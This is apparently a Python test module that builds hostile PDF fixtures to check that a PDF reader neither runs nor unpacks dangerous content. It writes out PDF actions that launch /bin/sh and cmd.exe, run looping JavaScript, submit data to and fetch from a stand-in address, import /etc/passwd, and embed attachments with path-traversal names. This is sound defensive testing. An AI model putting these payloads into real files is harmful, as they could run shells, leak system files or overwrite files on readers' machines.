"""Files that would run, fetch or unpack something if anybody let them."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.case import EITHER, NO_PLAN, READ, UNSUPPORTED, Case
from tests.hostile.plans import pdf_plan, plan_lines, stream, text_operators

_ACTIONS = {
    "javascript": b"/S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){})",
    "launch": b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>",
    "address": b"/S /URI /URI (http://192.0.2.1/x)",
    "submit": b"/S /SubmitForm /F (http://192.0.2.1/x) /Flags 4",
    "other file": b"/S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\x.pdf) /D [0 /Fit]",
    "import": b"/S /ImportData /F (/etc/passwd)",
}


def cases() -> Iterator[Case]:
    """The files of this group."""
    for name, action in _ACTIONS.items():
        note = b"<< /Type /Annot /Subtype /Link /Rect [0 0 500 800] /A << %s >> >>" % action
        data = pdf_plan(
            name,
            catalogue=b"/OpenAction << %s >> /AA << /WC << %s >> >>" % (action, action),
            page=b"/Annots [6 0 R] /AA << /O << %s >> >>" % action,
            more={6: note},
        )
        yield Case(f"{name}.pdf", data, READ)
    attached = {
        6: b"<< /Type /Filespec /F (../../slip.txt) /UF (../../slip.txt) /EF << /F 7 0 R >> >>",
        7: stream(b"slipped", b"/Type /EmbeddedFile"),
    }
    names = b"/Names << /EmbeddedFiles << /Names [(../../../slip.txt) 6 0 R] >> >>"
    yield Case("attachment.pdf", pdf_plan("attached", catalogue=names, more=attached), READ)
    cover = stream(
        text_operators(["To view the full contents of this document, open it elsewhere."])
    )
    portfolio = pdf_plan(
        catalogue=names + b"/Collection << /View /D >>", more=attached | {4: cover}
    )
    yield Case("portfolio.pdf", portfolio, UNSUPPORTED | NO_PLAN)
    form = {
        4: stream(text_operators(["Please wait... If this message is not eventually replaced"])),
        6: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"),
    }
    xfa = pdf_plan("xfa", catalogue=b"/AcroForm << /XFA 6 0 R /Fields [] >>", more=form)
    yield Case("form of another program.pdf", xfa, UNSUPPORTED, "form")
    yield Case("values alone.pdf", _form_plan(), EITHER)


def _form_plan() -> bytes:
    """A plan whose words all stand in form fields, each with its appearance."""
    objects: dict[int, bytes] = {4: stream(b"")}
    notes = []
    for n, line in enumerate(plan_lines("values")):
        field, look = 10 + 2 * n, 11 + 2 * n
        top = 800 - n * 25
        objects[field] = (
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /F 4 /T (f%d) /V (%s) "
            b"/Rect [50 %d 550 %d] /AP << /N %d 0 R >> >>" % (n, line.encode(), top, top + 20, look)
        )
        objects[look] = stream(
            text_operators([line], x=2, y=5),
            b"/Type /XObject /Subtype /Form /BBox [0 0 500 20] "
            b"/Resources << /Font << /F1 5 0 R >> >>",
        )
        notes.append(b"%d 0 R" % field)
    fields = b" ".join(notes)
    return pdf_plan(
        page=b"/Annots [%s]" % fields,
        catalogue=b"/AcroForm << /Fields [%s] /DR << /Font << /F1 5 0 R >> >> >>" % fields,
        more=objects,
    )
